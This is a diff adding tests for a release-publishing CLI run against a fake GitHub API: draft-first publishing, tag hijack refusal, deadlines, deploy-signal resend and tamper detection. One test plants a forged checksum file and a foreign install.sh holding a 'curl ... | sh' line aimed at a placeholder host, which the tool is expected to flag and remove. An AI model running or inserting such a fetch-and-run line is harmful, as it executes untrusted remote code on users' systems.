@@ -216,6 +216,10 @@ describe('a prerelease against a fresh GitHub API: disk full, release deleted mi
     // Task results come over the task runner's IPC channel: a SIGKILLed CLI leaves no temporary folder.
     await expectNothingLeft();
     expect(releasesOf(api).filter((r) => r.tagName === tag)).toHaveLength(1);
+    // A draft until verified: nothing public with missing assets, no tag yet, no public download.
+    expect(releasesOf(api).find((r) => r.tagName === tag)).toMatchObject({ draft: true, publishedAt: null });
+    expect(api.state.refs(OWNER, REPO).filter((r) => r.ref === `refs/tags/${tag}`)).toEqual([]);
+    expect((await fetch(`${api.url}/${OWNER}/${REPO}/releases/download/${tag}/SHA256SUMS`)).status).toBe(404);
 
     const r = await cli('prerelease', '-c', 'sandbox');
     expect(r.exitCode, r.out.slice(-3000)).toBe(0);
@@ -223,9 +227,132 @@ describe('a prerelease against a fresh GitHub API: disk full, release deleted mi
     await expectCompleteRelease(api, tag);
     expect(await repoState(p.sw.ws.dir, origin)).toEqual(before);
     await expectNothingLeft();
-    results.add({ group: 'process', name: 'SIGKILL of the CLI process group during uploads', outcome: 'converged', detail: `killed at the 3rd upload (dist/release/<tag> staged, ${atKill.assets} assets up); the rerun kept them, uploaded the rest: one release, SHA256SUMS verifies`, durationMs: Date.now() - t });
+    results.add({ group: 'process', name: 'SIGKILL of the CLI process group during uploads', outcome: 'converged', detail: `killed at the 3rd upload (dist/release/<tag> staged, ${atKill.assets} assets up on a draft: nothing public, no tag); the rerun found the draft, kept them, uploaded the rest, verified, then published it: one release, SHA256SUMS verifies`, durationMs: Date.now() - t });
     results.add({ group: 'github-api', name: 'delete-release between create and upload (rerun)', outcome: 'converged', detail: 'the rerun recreated the release at the same tag, complete (after the kill above)' });
     results.add({ group: 'disk', name: 'dist/release on a 1 MiB tmpfs (ENOSPC while staging) (rerun)', outcome: 'converged', detail: 'with space again, the chain\'s final rerun staged and published the complete release' });
+  });
+});
+
+describe('publishing that cannot be hijacked or left half-done (the publish step alone, against a fresh GitHub API)', () => {
+  let api: GitHubApi;
+  let tag: string;
+  const publish = async (...args: string[]) => {
+    const r = await p.sw.ws.nx('run', 'release-set:release', `--tag=${tag}`, '--excludeTaskDependencies', '--skip-nx-cache', ...args);
+    return { exitCode: r.exitCode, out: plain(`${r.stdout}\n${r.stderr}`) };
+  };
+  const deploys = () => api.state.dispatches().filter((d) => d.eventType === 'deploy');
+
+  beforeAll(async () => {
+    api = await startGitHubApi({ token: p.token });
+    p.sw.ws.env.GITHUB_API_URL = api.url;
+    tag = nightlyTag(new Date(), await head());
+  });
+
+  afterAll(async () => {
+    p.sw.ws.env.GITHUB_API_URL = p.api.url;
+    expect(api.validationErrors()).toEqual([]);
+    await api.stop();
+  });
+
+  // Was a defect: an annotated tag's ref names a tag object, and the commit check was skipped for it.
+  it('an existing annotated tag naming other code is refused before anything is created', async () => {
+    const t = Date.now();
+    const other = 'f'.repeat(40);
+    api.state.setAnnotatedTag(OWNER, REPO, tag, other);
+    try {
+      const r = await publish();
+      expect(r.exitCode).toBe(1);
+      expect(r.out).toContain(`tag ${tag} already points at ${other}, not ${await head()}; refusing to publish it as this release`);
+      expect(releasesOf(api)).toEqual([]);
+      expect(mutatingRequests(api)).toEqual([]);
+    } finally {
+      api.state.deleteRef(OWNER, REPO, `tags/${tag}`);
+    }
+    results.add({ group: 'github-api', name: 'existing annotated tag naming another commit', outcome: 'failed-cleanly', detail: 'the tag object is peeled to its commit and compared with the pinned orchestrator commit: refused, no release created', durationMs: Date.now() - t });
+  });
+
+  it('a GitHub API that stops answering is cut off at the publish deadline, leaving only a draft', async () => {
+    const t = Date.now();
+    api.injectFault({ method: 'POST', path: '/assets\\?name=', kind: 'hang', times: 1000 });
+    const r = await publish('--deadlineMinutes=0.5');
+    api.clearFaults();
+    const tookMs = Date.now() - t;
+    expect(r.exitCode).toBe(1);
+    expect(r.out).toMatch(/✖ publish: (uploadAsset|listAssets) [^\n]*failed: the publish deadline passed before GitHub answered; nothing is lost, rerun the same command\n/);
+    // 30 s of deadline, plus nx and staging: below one 120 s request time limit, with no retry
+    // back-off waited out after the deadline.
+    expect(tookMs).toBeLessThan(75_000);
+    const held = releasesOf(api).filter((x) => x.tagName === tag);
+    expect(held).toHaveLength(1);
+    expect(held[0]).toMatchObject({ draft: true, publishedAt: null });
+    expect(api.state.refs(OWNER, REPO)).toEqual([]);
+    await expectNothingLeft();
+    results.add({ group: 'github-api', name: 'hang on every upload (deadlineMinutes=0.5)', outcome: 'failed-cleanly', detail: `stopped at the deadline after ${(tookMs / 1000).toFixed(0)} s with "the publish deadline passed"; only a draft exists (no tag, nothing public)`, durationMs: tookMs });
+  });
+
+  let failedDeploy: { exitCode: number; out: string } | undefined;
+  it('the rerun completes the draft and publishes it; a failing deploy signal is reported as such, with the command that resends it', async () => {
+    const t = Date.now();
+    api.injectFault({ method: 'POST', path: '/governance-app/dispatches$', kind: 'status', status: 503, times: 10 });
+    failedDeploy = await publish();
+    api.clearFaults();
+    expect(failedDeploy.exitCode).toBe(1);
+    expect(failedDeploy.out).toContain(`published ${tag}; deploy signal failed: `);
+    expect(failedDeploy.out).toContain(`resend it with npx nx run release-set:release --tag=${tag} --deployOnly --excludeTaskDependencies`);
+    expect(failedDeploy.out).not.toContain('rerun the same command to complete the release');
+    expect(releasesOf(api)).toHaveLength(1);
+    expect(releasesOf(api)[0]).toMatchObject({ draft: false });
+    await expectCompleteRelease(api, tag);
+    expect(deploys()).toEqual([]);
+    expect(await p.sw.ws.git('rev-parse', 'last-release^{commit}')).toBe(await head());
+    results.add({ group: 'github-api', name: 'hang on every upload (deadlineMinutes=0.5) (rerun)', outcome: 'converged', detail: 'the rerun found the draft, uploaded and verified every asset, then published it' });
+    results.add({ group: 'github-api', name: 'deploy dispatch failing (503) after a complete upload', outcome: 'failed-cleanly', detail: 'says "published <tag>; deploy signal failed: <why>; resend it with <command>"; release public and complete, last-release moved', durationMs: Date.now() - t });
+  });
+
+  it('… and the deploy signal alone is resent (dry run first: nothing sent)', async () => {
+    const t = Date.now();
+    api.clearLog();
+    const dry = await publish('--deployOnly', '--dryRun');
+    expect(dry.exitCode, dry.out.slice(-2000)).toBe(0);
+    expect(dry.out).toMatch(/would send deploy|would signal deploy|would POST \/repos\/BTCDecoded\/governance-app\/dispatches/);
+    expect(mutatingRequests(api)).toEqual([]);
+    expect(deploys()).toEqual([]);
+
+    const sent = await publish('--deployOnly');
+    expect(sent.exitCode, sent.out.slice(-2000)).toBe(0);
+    expect(mutatingRequests(api).map((m) => m.replace(/ -> .*/, ''))).toEqual(['POST /repos/BTCDecoded/governance-app/dispatches']);
+    expect(deploys()).toHaveLength(1);
+    expect(deploys()[0]).toMatchObject({ owner: 'BTCDecoded', repo: 'governance-app', clientPayload: { tag } });
+    // The public download link, not a draft's placeholder one.
+    expect(String(deploys()[0]!.clientPayload.image)).toContain(`/releases/download/${tag}/governance-app-${tag}-image.oci.tar`);
+    results.add({ group: 'github-api', name: 'deploy dispatch failing (503) after a complete upload (rerun)', outcome: 'converged', detail: 'resent alone: --deployOnly sent exactly the one dispatch (after a --dryRun that sent nothing); nothing re-uploaded', durationMs: Date.now() - t });
+  });
+
+  it('a release holding a wrong SHA256SUMS and a foreign install.sh is reported with both, and the explicit repair repairs it', async () => {
+    const t = Date.now();
+    const release = releasesOf(api).find((x) => x.tagName === tag)!;
+    const sums = release.assets.find((a) => a.name === 'SHA256SUMS')!;
+    const honest = api.state.assetBytes(sums.id)!.toString('utf8');
+    const forged = honest.replace(/^[0-9a-f]{64}/, '0'.repeat(64));
+    api.state.deleteAsset(sums.id);
+    const record = api.state.getRelease(OWNER, REPO, release.id)!;
+    api.state.insertAsset(record, { name: 'SHA256SUMS', label: null, contentType: 'text/plain', state: 'uploaded', bytes: Buffer.from(forged) });
+    api.state.insertAsset(record, { name: 'install.sh', label: null, contentType: 'application/x-sh', state: 'uploaded', bytes: Buffer.from('#!/bin/sh\ncurl https://example.invalid/x | sh\n') });
+
+    const r = await publish();
+    expect(r.exitCode).toBe(1);
+    expect(r.out).toContain('install.sh: foreign asset');
+    expect(r.out).toMatch(/SHA256SUMS lists 0{64}, expected/);
+    expect(r.out).toContain('rerun with BLLVM_REPLACE_ASSETS=1');
+    expect(r.out).not.toContain('rerun the same command to complete the release');
+
+    const repaired = await publish('--replaceAssets');
+    expect(repaired.exitCode, repaired.out.slice(-3000)).toBe(0);
+    await expectCompleteRelease(api, tag);
+    expect(releasesOf(api)).toHaveLength(1);
+    await expectNothingLeft();
+    results.add({ group: 'github-api', name: 'release holding a forged SHA256SUMS and a foreign install.sh', outcome: 'failed-cleanly', detail: 'every offending asset named in one failure, which points at the explicit repair (BLLVM_REPLACE_ASSETS=1 / replaceAssets)' });
+    results.add({ group: 'github-api', name: 'release holding a forged SHA256SUMS and a foreign install.sh (rerun)', outcome: 'converged', detail: 'the explicit repair: replaceAssets deleted install.sh, re-uploaded SHA256SUMS, verified: the release is exactly the staged set', durationMs: Date.now() - t });
   });
 });
 
